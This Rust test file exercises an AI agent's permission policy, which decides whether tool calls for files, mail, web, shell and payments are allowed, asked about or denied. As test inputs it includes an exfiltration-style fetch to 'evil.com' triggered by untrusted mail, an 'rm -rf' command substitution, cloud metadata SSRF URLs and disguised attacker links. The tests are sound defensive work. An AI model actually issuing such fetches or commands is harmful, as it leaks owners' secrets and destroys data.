//! The decision core, from outside: every effect meets every label, mandate, ground and role.

mod enumeration;
mod tables;

use super::*;
use domain::{
    Action, AskModel, Call, Channel, Effect, Integrity, Label, Principal, Purpose, Reply, Role, Source,
    SourceKind, Tier, Timestamp, Verdict,
};
use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;
use tools::{Catalog, Manifest};

pub(crate) const NOW: Timestamp = Timestamp(1_750_000_000_000);

/// Foreign tools, one for each effect class, for rules that no built-in tool reaches.
const FOREIGN: &str = r#"
version = 1
[[tool]]
name = "bank.pay"
about = "Pay."
effect = "spend"
sinks = ["argument to"]
source = { tier = "high" }
[[tool.argument]]
name = "to"
about = "Whom."
role = "authority"
type = "address"
[[tool.argument]]
name = "amount"
about = "How much."
role = "authority"
type = "amount"
[[tool.argument]]
name = "subject"
about = "What for."
role = "payload"
type = "text"
optional = true

[[tool]]
name = "service.set"
about = "Change a setting."
effect = "configure"
sinks = ["service s"]
source = { tier = "medium" }
[[tool.argument]]
name = "name"
about = "Which."
role = "authority"
type = "text"

[[tool]]
name = "drive.delete"
about = "Delete for good."
effect = "delete"
sinks = ["service drive"]
source = { tier = "medium" }
[[tool.argument]]
name = "id"
about = "Which."
role = "authority"
type = "id of file"

[[tool]]
name = "drive.write"
about = "Write."
effect = "write"
sinks = ["service drive"]
source = { tier = "medium" }
[[tool.argument]]
name = "id"
about = "Which."
role = "authority"
type = "id of file"
[[tool.argument]]
name = "content"
about = "What."
role = "payload"
type = "text"
"#;

pub(crate) fn catalog() -> Catalog {
    Catalog::builtin().unwrap().with(Catalog::from_toml(FOREIGN).unwrap()).unwrap()
}

pub(crate) fn places() -> Places {
    Places {
        home: "/home/u/.hardshell".into(),
        workspace: "/home/u/.hardshell/workspace".into(),
        owner_home: "/home/u".into(),
        programs: vec![PathBuf::from("/usr/local/lib/hardshell")],
    }
}

pub(crate) fn policy(settings: &str) -> Policy {
    Policy::load(&Settings::from_toml(settings).unwrap(), &[], &places(), None).unwrap()
}

pub(crate) fn call(tool: &str, arguments: &str) -> (Call, Arc<Manifest>) {
    let catalog = catalog();
    let call = catalog.parse(tool, arguments).unwrap();
    let manifest = Arc::new(catalog.manifest(&call.tool).unwrap().clone());
    (call, manifest)
}

pub(crate) fn untrusted() -> Label {
    Label::new(Integrity::Untrusted, Tier::Medium, Source::new(SourceKind::Mail, "eve@evil.com"))
}

/// The owner, on a proven channel, who said `words`.
pub(crate) fn facts(words: &str, label: Label) -> Facts {
    let mut facts = Facts::nothing_known(NOW, Principal::owner(), Channel::Web, "s1".parse().unwrap());
    facts.proof = ChannelProof::Proven;
    facts.isolation = IsolationLevel::Full;
    facts.label = label;
    facts.provenance.note_text(words, &Label::owner());
    facts.model_clearance = Tier::Medium;
    facts
}

fn decide(policy: &Policy, tool: &str, arguments: &str, facts: &Facts) -> Decision {
    let (call, manifest) = call(tool, arguments);
    let facts = Facts { manifest: Some(manifest), ..facts.clone() };
    policy.decide(Action::Call(call), &facts)
}

/// The verdict and the worst rules' names.
fn told(decision: &Decision) -> (Verdict, Vec<String>) {
    let worst = decision.verdict();
    let hits = decision.hits().iter().filter(|hit| hit.verdict == worst);
    (worst, hits.map(|hit| hit.id.clone()).collect())
}

#[track_caller]
fn check(rows: &[(&str, &str, &str, &str, Label, Verdict, &str)]) {
    for (what, settings, tool, arguments, label, verdict, rule) in rows {
        let words =
            "please see anna@example.org, https://example.org/page, notes.txt and file f13x, pay 12.00";
        let mut facts = facts(words, label.clone());
        facts.familiar_recipients =
            vec!["anna@example.org".parse().unwrap(), "bob@example.org".parse().unwrap()];
        let (found, rules) = told(&decide(&policy(settings), tool, arguments, &facts));
        assert_eq!(found, *verdict, "{what}: {rules:?}");
        assert!(rule.is_empty() || rules.iter().any(|id| id == rule), "{what}: {rules:?} lack {rule}");
    }
}

#[test]
fn what_may_be_done_asks_or_is_refused_by_rule() {
    use Verdict::{Allow, Ask, Deny};
    let clean = Label::owner;
    let to_anna = r#"{"to":["anna@example.org"],"subject":"hi","body":"hello"}"#;
    check(&[
        (
            "a file of the workspace is read",
            "",
            "files.read",
            r#"{"path":"notes.txt"}"#,
            untrusted(),
            Allow,
            "",
        ),
        ("a file elsewhere is not", "", "files.read", r#"{"path":"/srv/x"}"#, clean(), Deny, "may.path"),
        (
            "a granted place is read",
            "[files]\nreadable_paths=[\"/srv\"]",
            "files.read",
            r#"{"path":"/srv/x"}"#,
            clean(),
            Allow,
            "",
        ),
        (
            "and not written",
            "[files]\nreadable_paths=[\"/srv\"]",
            "files.write",
            r#"{"path":"/srv/x","content":"a"}"#,
            clean(),
            Deny,
            "may.path.read-only",
        ),
        (
            "a denied place wins",
            "[files]\nallowed_paths=[\"/srv\"]\ndenied_paths=[\"/srv/p\"]",
            "files.read",
            r#"{"path":"/srv/p/x"}"#,
            clean(),
            Deny,
            "may.path.denied",
        ),
        (
            "the vault is out of reach",
            "[files]\nallowed_paths=[\"~/**\"]",
            "files.read",
            r#"{"path":"../vault.db"}"#,
            clean(),
            Deny,
            "floor.own-files",
        ),
        (
            "SOUL.md is not written",
            "[files]\nallowed_paths=[\"~/**\"]",
            "files.write",
            r#"{"path":"~/.hardshell/SOUL.md","content":"x"}"#,
            clean(),
            Deny,
            "floor.own-files",
        ),
        (
            "the workspace is written after strangers' text",
            "",
            "files.write",
            r#"{"path":"notes.txt","content":"a"}"#,
            untrusted(),
            Allow,
            "",
        ),
        (
            "what runs later is not",
            "",
            "files.write",
            r#"{"path":".git/hooks/pre-commit","content":"a"}"#,
            untrusted(),
            Ask,
            "integrity.untrusted",
        ),
        (
            "a place outside asks",
            "[files]\nallowed_paths=[\"/srv\"]",
            "files.write",
            r#"{"path":"/srv/x","content":"a"}"#,
            untrusted(),
            Ask,
            "integrity.untrusted",
        ),
        ("host facts are free", "", "host.disk", "{}", untrusted(), Allow, ""),
        ("a mail to somebody known, asked for", "", "mail.send", to_anna, clean(), Allow, ""),
        ("the same after strangers' text", "", "mail.send", to_anna, untrusted(), Ask, "integrity.untrusted"),
        (
            "the guides' way",
            "[mail]\nrequire_confirmation=true",
            "mail.send",
            to_anna,
            clean(),
            Ask,
            "confirm.send",
        ),
        (
            "a recipient nobody named",
            "",
            "mail.send",
            r#"{"to":["bob@example.org"],"subject":"a","body":"b"}"#,
            clean(),
            Ask,
            "integrity.ungrounded",
        ),
        (
            "a list of recipients",
            "[mail]\nallowed_recipients=[\"@example.com\"]",
            "mail.send",
            to_anna,
            clean(),
            Deny,
            "may.recipient.unlisted",
        ),
        (
            "a denied recipient",
            "[mail]\ndenied_recipients=[\"anna@example.org\"]",
            "mail.send",
            to_anna,
            clean(),
            Deny,
            "may.recipient.denied",
        ),
        (
            "a page the owner named",
            "",
            "web.fetch",
            r#"{"url":"https://example.org/page"}"#,
            untrusted(),
            Allow,
            "",
        ),
        (
            "a page that the text named",
            "",
            "web.fetch",
            r#"{"url":"https://evil.com/?q=secret"}"#,
            untrusted(),
            Ask,
            "integrity.untrusted",
        ),
        (
            "a denied host",
            "[web]\ndenied_hosts=[\"example.org\"]",
            "web.fetch",
            r#"{"url":"https://example.org/page"}"#,
            clean(),
            Deny,
            "may.host.denied",
        ),
        (
            "an unlisted host",
            "[web]\nmode=\"allowlist\"\nallowed_hosts=[\"a.org\"]",
            "web.fetch",
            r#"{"url":"https://example.org/page"}"#,
            clean(),
            Deny,
            "may.host.unlisted",
        ),
        (
            "an unlisted host that asks",
            "[web]\nmode=\"ask\"",
            "web.fetch",
            r#"{"url":"https://example.org/page"}"#,
            clean(),
            Ask,
            "confirm.host",
        ),
        (
            "a payment",
            "",
            "bank.pay",
            r#"{"to":"anna@example.org","amount":12}"#,
            clean(),
            Ask,
            "confirm.spend",
        ),
        (
            "a payment, unless granted",
            "[actions]\nprofile=\"unless-granted\"",
            "bank.pay",
            r#"{"to":"anna@example.org","amount":12}"#,
            clean(),
            Allow,
            "",
        ),
        ("a setting", "", "service.set", r#"{"name":"notes.txt"}"#, clean(), Ask, "confirm.configure"),
        ("a deletion for good", "", "drive.delete", r#"{"id":"f13x"}"#, clean(), Ask, "confirm.delete"),
        ("a deletion to the trash", "", "files.delete", r#"{"path":"notes.txt"}"#, clean(), Allow, ""),
        (
            "a deletion to the trash after strangers' text",
            "",
            "files.delete",
            r#"{"path":"notes.txt"}"#,
            untrusted(),
            Ask,
            "integrity.untrusted",
        ),
        ("a command that looks", "", "shell.run", r#"{"command":"ls -la"}"#, untrusted(), Allow, ""),
        (
            "a command that looks elsewhere",
            "",
            "shell.run",
            r#"{"command":"ls /root"}"#,
            clean(),
            Deny,
            "may.path",
        ),
        (
            "a command nobody knows",
            "",
            "shell.run",
            r#"{"command":"frobnicate -x"}"#,
            clean(),
            Ask,
            "confirm.program",
        ),
        (
            "the same where only the list runs",
            "[shell]\nmode=\"allowlist\"",
            "shell.run",
            r#"{"command":"frobnicate"}"#,
            clean(),
            Deny,
            "may.program.unlisted",
        ),
        (
            "no commands at all",
            "[shell]\nmode=\"off\"",
            "shell.run",
            r#"{"command":"ls"}"#,
            clean(),
            Deny,
            "may.program.denied",
        ),
        (
            "a denied program",
            "[shell]\ndenied=[\"ls\"]",
            "shell.run",
            r#"{"command":"ls"}"#,
            clean(),
            Deny,
            "may.program.denied",
        ),
        (
            "a denied program inside a substitution",
            "[shell]\ndenied=[\"rm\"]",
            "shell.run",
            r#"{"command":"echo $(rm -rf x)"}"#,
            clean(),
            Deny,
            "may.program.denied",
        ),
        (
            "any code of the owner's choosing",
            "[shell]\nallowed=[\"python3\"]",
            "shell.run",
            r#"{"command":"python3 -c 1"}"#,
            clean(),
            Allow,
            "",
        ),
        (
            "a command that looks, with a way out",
            "",
            "shell.run",
            r#"{"command":"ls -la","hosts":["api.example.org"]}"#,
            clean(),
            Ask,
            "flow.clearance",
        ),
        (
            "any code, with a way out",
            "[shell]\nallowed=[\"python3\"]",
            "shell.run",
            r#"{"command":"python3 -c 1","hosts":["api.example.org"]}"#,
            clean(),
            Ask,
            "flow.clearance",
        ),
        (
            "a way out where files of the highest tier are open",
            "[files]\nreadable_paths=[\"~/Tax\"]",
            "shell.run",
            r#"{"command":"ls -la","hosts":["api.example.org"]}"#,
            clean(),
            Deny,
            "flow.high-to-public",
        ),
        (
            "a way out to a host that the owner denied",
            "[web]\ndenied_hosts=[\"*.example.org\"]",
            "shell.run",
            r#"{"command":"ls","hosts":["api.example.org"]}"#,
            clean(),
            Deny,
            "may.host.denied",
        ),
        (
            "and not after strangers' text",
            "[shell]\nallowed=[\"python3\"]",
            "shell.run",
            r#"{"command":"python3 -c 1"}"#,
            untrusted(),
            Ask,
            "integrity.untrusted",
        ),
    ]);
}

#[test]
fn the_floor_stands_whatever_was_approved() {
    let policy = policy("[files]\nallowed_paths=[\"/**\"]");
    let (call, manifest) = call("files.write", r#"{"path":"/home/u/.hardshell/SOUL.md","content":"x"}"#);
    let action = Action::Call(call);
    let mut facts = Facts { manifest: Some(manifest), ..facts("write SOUL.md", Label::owner()) };
    let binding = policy.binding(&action, &facts);
    facts.approvals = vec![Approval { binding, expires: NOW.after(Duration::from_secs(60)) }];
    assert_eq!(policy.decide(action, &facts).verdict(), Verdict::Deny);
}

#[test]
fn metadata_addresses_are_never_fetched() {
    let all = policy("");
    for url in [
        "http://169.254.169.254/latest/meta-data/",
        "http://[fe80::1]/",
        "http://[::ffff:169.254.169.254]/",
        "http://metadata.google.internal/",
        "http://100.100.100.200/",
        "http://2852039166/",
    ] {
        let Ok(parsed) = catalog().parse("web.fetch", &serde_json::json!({ "url": url }).to_string()) else {
            continue;
        };
        let manifest = catalog().manifest(&parsed.tool).cloned().map(Arc::new);
        let facts = Facts { manifest, ..facts(url, Label::owner()) };
        assert_eq!(all.decide(Action::Call(parsed), &facts).verdict(), Verdict::Deny, "{url}");
    }
}

#[test]
fn lockdown_and_missing_walls_refuse() {
    let mut locked = facts("ls", Label::owner());
    locked.lockdown = Lockdown::Locked;
    assert_eq!(
        told(&decide(&policy(""), "host.disk", "{}", &locked)),
        (Verdict::Deny, vec!["floor.lockdown".to_string()])
    );
    let mut bare = facts("ls", Label::owner());
    bare.isolation = IsolationLevel::Off;
    assert_eq!(decide(&policy(""), "shell.run", r#"{"command":"ls"}"#, &bare).verdict(), Verdict::Deny);
    bare.isolation = IsolationLevel::Landlock;
    bare.isolation_floor = IsolationLevel::FullSoft;
    assert_eq!(decide(&policy(""), "shell.run", r#"{"command":"ls"}"#, &bare).verdict(), Verdict::Deny);
}

#[test]
fn an_unproven_channel_gets_nothing() {
    let mut facts = facts("ls", Label::owner());
    facts.proof = ChannelProof::Unproven;
    for (tool, arguments) in [("host.disk", "{}"), ("files.read", r#"{"path":"notes.txt"}"#)] {
        assert_eq!(decide(&policy(""), tool, arguments, &facts).verdict(), Verdict::Deny);
    }
}

#[test]
fn an_approval_is_good_for_exactly_what_it_was_given_for() {
    let policy = policy("");
    let send = |body: &str| format!(r#"{{"to":["anna@example.org"],"subject":"hi","body":"{body}"}}"#);
    let (asked, manifest) = call("mail.send", &send("hello"));
    let action = Action::Call(asked);
    let mut facts = Facts { manifest: Some(manifest), ..facts("mail anna@example.org", untrusted()) };
    let Decision::Ask { action, question, .. } = policy.decide(action, &facts) else {
        panic!("it asks first")
    };
    facts.approvals =
        vec![Approval { binding: question.binding, expires: NOW.after(Duration::from_secs(60)) }];
    match policy.decide(action, &facts) {
        Decision::Allow { permit, .. } => assert_eq!(permit.uses().approval, Some(question.binding)),
        other @ (Decision::Ask { .. } | Decision::Deny { .. }) => panic!("{other:?}"),
    }
    let other_body = Action::Call(call("mail.send", &send("something else")).0);
    assert_eq!(policy.decide(other_body, &facts).verdict(), Verdict::Ask);
    let same = || Action::Call(call("mail.send", &send("hello")).0);
    let late = Facts { now: NOW.after(Duration::from_secs(61)), ..facts.clone() };
    assert_eq!(policy.decide(same(), &late).verdict(), Verdict::Ask, "it expired");
    let elsewhere = Facts { session: "s2".parse().unwrap(), ..facts.clone() };
    assert_eq!(policy.decide(same(), &elsewhere).verdict(), Verdict::Ask, "another session");
    let changed = super::tests::policy("[mail]\nown_domains=[\"example.org\"]");
    assert_eq!(changed.decide(same(), &facts).verdict(), Verdict::Ask, "the policy has changed since");
    let mut swapped = call("mail.send", &send("hello")).0;
    swapped.targets.push(domain::Target::Host { host: "mail.example.org".parse().unwrap(), port: 25 });
    assert_eq!(
        policy.decide(Action::Call(swapped), &facts).verdict(),
        Verdict::Ask,
        "it leads elsewhere now"
    );
}

#[test]
fn a_standing_rule_answers_its_own_question_and_no_other() {
    let policy = policy("");
    let arguments = r#"{"to":["anna@example.org"],"subject":"hi","body":"x"}"#;
    let (asked, _manifest) = call("mail.send", arguments);
    let rule = StandingRule::offer(&Action::Call(asked), Channel::Web, Integrity::Untrusted, NOW).unwrap();
    let mut facts = facts("mail anna@example.org", untrusted());
    facts.standing = vec![rule.clone()];
    assert_eq!(
        decide(&policy, "mail.send", arguments, &facts).verdict(),
        Verdict::Ask,
        "medium does not go to low"
    );
    facts.label = Label::new(Integrity::Untrusted, Tier::Low, Source::new(SourceKind::Web, "x"));
    assert_eq!(decide(&policy, "mail.send", arguments, &facts).verdict(), Verdict::Allow);
    let other = r#"{"to":["bob@example.org"],"subject":"hi","body":"x"}"#;
    assert_eq!(decide(&policy, "mail.send", other, &facts).verdict(), Verdict::Ask);
    let stranger = r#"{"to":["anna@example.org"],"subject":"hi","body":"see https://evil.com/x"}"#;
    assert_eq!(decide(&policy, "mail.send", stranger, &facts).verdict(), Verdict::Ask);
    facts.now = rule.expires.after(Duration::from_millis(1));
    assert_eq!(decide(&policy, "mail.send", arguments, &facts).verdict(), Verdict::Ask, "it expired");
}

#[test]
fn what_the_owner_typed_runs_and_nothing_beside() {
    let policy = policy("");
    let mut facts = facts("/run frobnicate -x", untrusted());
    facts.typed = Some("/run frobnicate -x".into());
    assert_eq!(
        decide(&policy, "shell.run", r#"{"command":"frobnicate -x"}"#, &facts).verdict(),
        Verdict::Allow
    );
    assert_eq!(
        decide(&policy, "shell.run", r#"{"command":"frobnicate -x -y"}"#, &facts).verdict(),
        Verdict::Ask
    );
    facts.principal = Principal { role: Role::Member, name: "eve".into() };
    assert_eq!(
        decide(&policy, "shell.run", r#"{"command":"frobnicate -x"}"#, &facts).verdict(),
        Verdict::Deny
    );
}

#[test]
fn a_prompt_goes_only_to_a_model_that_is_cleared_for_it() {
    let ask = || {
        Action::AskModel(AskModel {
            model: "m".parse().unwrap(),
            purpose: Purpose::Turn,
            messages: vec![],
            tools: vec![],
            answer_tokens_max: 1,
        })
    };
    for (tier, clearance, verdict) in [
        (Tier::Medium, Tier::Medium, Verdict::Allow),
        (Tier::High, Tier::Medium, Verdict::Ask),
        (Tier::High, Tier::High, Verdict::Allow),
        (Tier::Low, Tier::Low, Verdict::Allow),
    ] {
        let mut facts = facts("hi", untrusted().raised_to(tier));
        facts.label = Label::new(Integrity::Untrusted, tier, Source::new(SourceKind::Mail, "x"));
        facts.model_clearance = clearance;
        assert_eq!(policy("").decide(ask(), &facts).verdict(), verdict, "{tier:?} to {clearance:?}");
    }
    let mut spent = facts("hi", Label::owner());
    spent.counters.tokens_today = u64::MAX;
    assert_eq!(policy("").decide(ask(), &spent).verdict(), Verdict::Deny);
}

#[test]
fn a_reply_to_the_owner_is_free_and_to_others_only_what_is_low() {
    let reply = || Action::Reply(Reply { session: "s1".parse().unwrap(), text: "x".into() });
    let high = untrusted().raised_to(Tier::High);
    assert_eq!(policy("").decide(reply(), &facts("hi", high.clone())).verdict(), Verdict::Allow);
    let mut guest = facts("hi", high);
    guest.principal = Principal { role: Role::Guest, name: "g".into() };
    assert_eq!(policy("").decide(reply(), &guest).verdict(), Verdict::Ask);
    guest.label = Label::new(Integrity::Untrusted, Tier::Low, Source::new(SourceKind::Person, "g"));
    assert_eq!(policy("").decide(reply(), &guest).verdict(), Verdict::Allow);
    // The house tells what it knows by itself.
    let mut house = facts("due", Label::owner());
    house.principal = Principal::house();
    assert_eq!(policy("").decide(reply(), &house).verdict(), Verdict::Allow);
}

#[test]
fn suspicion_and_bursts_ask() {
    let mut facts = facts("mail anna@example.org", Label::owner());
    facts.familiar_recipients = vec!["anna@example.org".parse().unwrap()];
    let arguments = r#"{"to":["anna@example.org"],"subject":"hi","body":"x"}"#;
    assert_eq!(decide(&policy(""), "mail.send", arguments, &facts).verdict(), Verdict::Allow);
    facts.suspicion = Suspicion::Raised;
    assert_eq!(decide(&policy(""), "mail.send", arguments, &facts).verdict(), Verdict::Ask);
    facts.suspicion = Suspicion::Quiet;
    facts.counters.sends_last_hour = 1000;
    assert_eq!(decide(&policy(""), "mail.send", arguments, &facts).verdict(), Verdict::Ask);
}

#[test]
fn a_tool_without_a_manifest_is_the_worst_there_is() {
    let (mut call, _manifest) = call("bank.pay", r#"{"to":"anna@example.org","amount":12}"#);
    call.effect = Effect::Configure;
    let facts = facts("pay anna@example.org 12.00", untrusted());
    assert_eq!(policy("").decide(Action::Call(call), &facts).verdict(), Verdict::Ask);
}

#[test]
fn the_owners_files_forbid_and_ask_and_permit_only_signed() {
    use ed25519_dalek::Signer;
    let key = ed25519_dalek::SigningKey::from_bytes(&[7; 32]);
    let public = key.verifying_key().to_bytes();
    let file = |text: &str, signature: Option<[u8; 64]>| RuleFile {
        name: "own.cedar".into(),
        text: text.into(),
        signature,
    };
    let load = |file: RuleFile| Policy::load(&Settings::default(), &[file], &places(), Some(&public));
    let forbid = r#"@id("own.no-mail") @why("not today") forbid (principal, action == Action::"send", resource == Tool::"mail.send");"#;
    let asks = r#"@id("own.ask") @why("ask me") @verdict("ask") forbid (principal, action, resource == Tool::"files.read");"#;
    let permit = r#"@id("own.guest") @why("guests may look") permit (principal in Role::"guest", action == Action::"read", resource == Tool::"host.disk");"#;
    let facts_ = facts("mail anna@example.org", Label::owner());
    let to_anna = r#"{"to":["anna@example.org"],"subject":"hi","body":"x"}"#;
    let found = decide(&load(file(forbid, None)).unwrap(), "mail.send", to_anna, &facts_);
    assert!(told(&found).1.contains(&"own.no-mail".to_string()));
    let found = decide(&load(file(asks, None)).unwrap(), "files.read", r#"{"path":"notes.txt"}"#, &facts_);
    assert_eq!(told(&found), (Verdict::Ask, vec!["own.ask".to_string()]));
    assert!(matches!(load(file(permit, None)), Err(Error::Unsigned { .. })));
    let signature = key.sign(&signed_bytes("own.cedar", permit)).to_bytes();
    let mut guest = facts_.clone();
    guest.principal = Principal { role: Role::Guest, name: "g".into() };
    assert_eq!(
        decide(&load(file(permit, Some(signature))).unwrap(), "host.disk", "{}", &guest).verdict(),
        Verdict::Allow
    );
    assert!(matches!(load(file(&format!("{permit} "), Some(signature))), Err(Error::BadSignature { .. })));
    for bad in [
        "forbid (principal, action, resource);",
        r#"@id("a") forbid (principal, action, resource);"#,
        r#"@id("a") @why("b") forbid (principal, action, resource) when { context.nonsense };"#,
        r#"@id("floor.lockdown") @why("b") forbid (principal, action, resource);"#,
        r#"@id("a") @why("b") forbid (principal == ?principal, action, resource);"#,
        r#"@id("a") @why("b") @verdict("allow") forbid (principal, action, resource);"#,
        "not cedar",
    ] {
        assert!(load(file(bad, None)).is_err(), "{bad}");
    }
}

#[test]
fn a_rule_that_fails_refuses() {
    let text = r#"@id("own.overflow") @why("adds up") forbid (principal, action, resource) when { 9223372036854775807 + context.session_tier > 0 };"#;
    let file = RuleFile { name: "own.cedar".into(), text: text.into(), signature: None };
    let policy = Policy::load(&Settings::default(), &[file], &places(), None).unwrap();
    let found = decide(&policy, "host.disk", "{}", &facts("disk", untrusted()));
    assert_eq!(told(&found), (Verdict::Deny, vec!["error.rule".to_string()]));
}

#[test]
fn a_session_reads_nothing_above_its_ceiling() {
    let policy =
        policy("[files]\nallowed_paths=[\"~/Documents\"]\n[tiers.senders]\n\"@bank.example\"=\"high\"");
    let mut facts = facts("read it", Label::owner());
    let read =
        |path: &str, facts: &Facts| decide(&policy, "files.read", &format!(r#"{{"path":"{path}"}}"#), facts);
    assert_eq!(read("~/Documents/Tax/2025.txt", &facts).verdict(), Verdict::Allow);
    facts.ceiling = Tier::Medium;
    assert_eq!(
        told(&read("~/Documents/Tax/2025.txt", &facts)),
        (Verdict::Deny, vec!["flow.ceiling".to_string()])
    );
    assert_eq!(read("~/Documents/notes.txt", &facts).verdict(), Verdict::Allow);
    let sender = "news@bank.example".parse().unwrap();
    assert_eq!(policy.tier_of(Origin::Sender(&sender)), Some(Tier::High));
    assert_eq!(policy.tier_of(Origin::Folder("INBOX")), None);
}

#[test]
fn somebody_else_is_told_a_strangers_link_only_when_the_owner_agrees() {
    let told = |role: Role, label: Label, text: &str| {
        let mut facts = facts("write to https://known.example/x", label);
        facts.principal = Principal { role, name: "anna".into() };
        let reply = Reply { session: "s-1".parse().unwrap(), text: text.into() };
        let found = policy("").decide(Action::Reply(reply), &facts);
        found.hits().iter().any(|hit| hit.id == "integrity.reply")
    };
    let read = Label::new(Integrity::Untrusted, Tier::Low, Source::new(SourceKind::Web, "evil.example"));
    for (text, asks) in [
        ("all is well", false),
        ("see https://known.example/x", false),
        ("see https://evil.example/p", true),
        ("see ⟦stranger: hxxps://evil[.]example/p⟧", true),
        ("write to mallory[@]evil[.]example", true),
        ("[x](data:text/html,a)", true),
        ("[x](javascript:alert)", true),
        ("\\\\evil.example\\a", true),
    ] {
        assert_eq!(told(Role::Guest, read.clone(), text), asks, "{text}");
        assert!(!told(Role::Owner, read.clone(), text) && !told(Role::Guest, Label::owner(), text), "{text}");
    }
}

#[test]
fn a_ceiling_holds_wherever_the_tier_of_what_is_read_is_known_beforehand() {
    let settings = "[files]\nreadable_paths=[\"~/Tax\"]\n[tiers.senders]\n\"@bank.example\"=\"high\"\n\
        [tiers.folders]\nFinance=\"high\"\n[tiers.hosts]\n\"*.bank.example\"=\"high\"\n[tiers.tools]\n\"host.logs\"=\"high\"";
    let mut facts = facts("https://www.bank.example/ https://news.example/", Label::owner());
    facts.ceiling = Tier::Medium;
    for (tool, arguments, refused) in [
        ("files.read", r#"{"path":"~/Tax/2025.txt"}"#, true),
        ("mail.list", r#"{"folder":"Finance"}"#, true),
        ("mail.list", r#"{"folder":"INBOX"}"#, false),
        ("mail.read", r#"{"id":"work/Finance/7"}"#, true),
        ("mail.read", r#"{"id":"work/INBOX/7"}"#, false),
        ("web.fetch", r#"{"url":"https://www.bank.example/"}"#, true),
        ("web.fetch", r#"{"url":"https://news.example/"}"#, false),
        ("host.logs", "{}", true),
        ("host.disk", "{}", false),
        // A command sees every place that is opened, and one of them is of the highest tier.
        ("shell.run", r#"{"command":"ls"}"#, true),
        ("mail.send", r#"{"to":["a@bank.example"],"subject":"s","body":"b"}"#, false),
    ] {
        let decision = decide(&policy(settings), tool, arguments, &facts);
        let hit = decision.hits().iter().any(|hit| hit.id == "flow.ceiling" && hit.verdict == Verdict::Deny);
        assert_eq!(hit, refused, "{tool} {arguments}: {:?}", decision.hits());
    }
    assert_eq!(policy("[tiers]\nceiling=\"low\"").ceiling(), Tier::Low);
    assert_eq!(policy("").ceiling(), Tier::High);
}

#[test]
fn an_unknown_key_is_an_error() {
    assert!(Settings::from_toml("[shell]\nmodes=\"ask\"").is_err());
    assert!(Settings::from_toml("[shel]\nmode=\"ask\"").is_err());
}

#[test]
fn the_digest_changes_with_anything_that_decides() {
    let plain = *policy("").digest();
    assert_eq!(plain, *policy("").digest());
    assert_ne!(plain, *policy("[web]\nmode=\"ask\"").digest());
}

#[test]
fn a_permit_expires() {
    let Decision::Allow { permit, .. } =
        decide(&policy(""), "host.disk", "{}", &facts("disk", Label::owner()))
    else {
        panic!()
    };
    assert_eq!(permit.redeem(NOW.after(Duration::from_secs(61))), Err(Expired));
}
